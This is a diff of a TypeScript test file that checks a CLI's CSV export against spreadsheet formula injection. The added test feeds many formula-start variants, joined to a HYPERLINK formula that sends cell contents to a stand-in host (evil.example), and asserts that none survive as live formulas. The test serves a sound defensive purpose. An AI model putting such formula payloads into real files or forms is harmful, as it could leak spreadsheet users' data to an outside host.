@@ -33,8 +33,37 @@ testOnBoth('--csv keeps every cell apart, and makes formulas harmless', async (_
     '',
     'service waiting',
   ]);
-  assert.deepEqual([honest?.[2], honest?.[4], honest?.[7]], ['Zoë "Z" O’Neil, PhD', '', "'\t=1+1 after a tab"]);
+  assert.deepEqual([honest?.[2], honest?.[4], honest?.[7]], ['Zoë "Z" O’Neil, PhD', '', "'\t'=1+1 after a tab"]);
 });
+
+testOnBoth(
+  'no column of --csv begins a formula, whatever stands in it and whichever separator a spreadsheet takes',
+  async (_context, given) => {
+    const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\ufeff=', '\u200b=', '\0=', '＝', '＋', '－', '＠', '−'];
+    for (const [index, start] of starts.entries()) {
+      const formula = `${start}HYPERLINK("http://evil.example?"&A1)`;
+      const all = { name: formula, email: formula, company: formula, phone: formula, message: `Honest;${formula}\n${formula}` };
+      const [owed] = await keepRequest(given.database, {
+        request: given.dialect === 'sqlite' ? all : withoutZero(all),
+        now: new Date(index),
+      });
+      const suspected_because = withoutZero({ formula }).formula;
+      await given.database.updateTable('consultation_requests').set({ suspected_because }).execute();
+      await given.database
+        .updateTable('notifications')
+        .set({ last_error: `x;${suspected_because}` })
+        .where('id', '=', String(owed?.id))
+        .execute();
+    }
+    const { out } = await leads(given, '--csv');
+    for (const row of cellsOf(out)) {
+      for (const cell of row) {
+        for (const piece of cell.split(/[;\t\r\n]/)) assert.doesNotMatch(piece, /^[\s\p{C}]*[=+\-@＝＋－＠−]/u, JSON.stringify(cell));
+      }
+    }
+    assert.equal(cellsOf(out).length, starts.length + 1);
+  },
+);
 
 testOnBoth('the text is for people: every fact of a request, and nothing that a terminal would obey', async (_context, given) => {
   const [owed] = await keepRequest(given.database, { request: { company: 'Lindqvist Labs', phone: '+46 70' }, now: RECEIVED });
@@ -63,6 +92,11 @@ testOnBoth('a line break of a message is a line break of the text, however it wa
   await keepRequest(given.database, { request: { message: 'First line\r\nsecond line\nthird line' } });
   assert.match((await leads(given)).out, /^ {4}First line\n {4}second line\n {4}third line$/m);
 });
+
+/** PostgreSQL keeps no text with a zero character. */
+function withoutZero<Fields extends Record<string, string>>(fields: Fields): Fields {
+  return JSON.parse(JSON.stringify(fields).replaceAll('\\u0000', ''));
+}
 
 /** Reads comma-separated values as RFC 4180 has them. */
 function cellsOf(csv: string): string[][] {
